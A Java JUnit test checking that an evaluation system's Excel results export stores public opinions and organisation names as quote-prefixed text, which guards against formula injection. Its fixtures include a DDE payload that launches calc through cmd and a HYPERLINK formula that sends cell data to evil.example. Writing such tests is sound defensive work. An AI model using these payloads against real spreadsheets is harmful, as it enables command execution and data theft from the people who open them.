package cn.wujiang.cxzy.evaluation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.ArgumentMatchers.anyCollection;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.when;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.List;
import java.util.Map;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import cn.wujiang.cxzy.organization.OrgSystem;
import cn.wujiang.cxzy.organization.OrgType;
import cn.wujiang.cxzy.organization.Organization;
import cn.wujiang.cxzy.organization.OrganizationService;

/** The public's opinions and imported names reach the results workbook as text no spreadsheet runs. */
class ResultsExportTest {

  @Test
  void formulaLikeOpinionsAndNamesAreQuotedTextCells() throws IOException {
    EvaluationService evaluations = mock(EvaluationService.class);
    OrganizationService organizations = mock(OrganizationService.class);
    Evaluation evaluation = mock(Evaluation.class);
    when(evaluation.getId()).thenReturn(1L);
    when(evaluation.getOrgCode()).thenReturn("zt-x");
    when(evaluation.getYear()).thenReturn(2026);
    when(evaluations.resultsOf(anyCollection())).thenReturn(Map.of());
    when(organizations.leadingBodies(anyCollection())).thenReturn(Map.of());
    when(organizations.all()).thenReturn(List.of(new Organization("zt-x", "@SUM(1+1)*cmd|' /C calc'!A0",
        OrgType.BRANCH, OrgSystem.EDUCATION, "edu-bureau", true, "测试学校")));
    when(organizations.allMembers()).thenReturn(List.of());
    when(evaluations.changes(evaluation)).thenReturn(List.of());
    List<String> opinions = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\")", "+1+1", "-1+1",
        "感谢老师们的付出");
    when(evaluations.opinions(evaluation)).thenReturn(opinions);

    byte[] xlsx = new ResultsExport(evaluations, organizations).workbook(List.of(evaluation));

    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
      Sheet sheet = workbook.getSheet("群众意见建议");
      for (int i = 0; i < opinions.size(); i++) {
        Cell name = sheet.getRow(i + 1).getCell(1);
        Cell opinion = sheet.getRow(i + 1).getCell(2);
        assertThat(name.getCellType()).isEqualTo(CellType.STRING);
        assertThat(name.getStringCellValue()).isEqualTo("@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(name.getCellStyle().getQuotePrefixed()).isTrue();
        assertThat(opinion.getCellType()).isEqualTo(CellType.STRING);
        assertThat(opinion.getStringCellValue()).isEqualTo(opinions.get(i));
        assertThat(opinion.getCellStyle().getQuotePrefixed()).as(opinions.get(i)).isEqualTo(i < 3);
      }
    }
  }
}
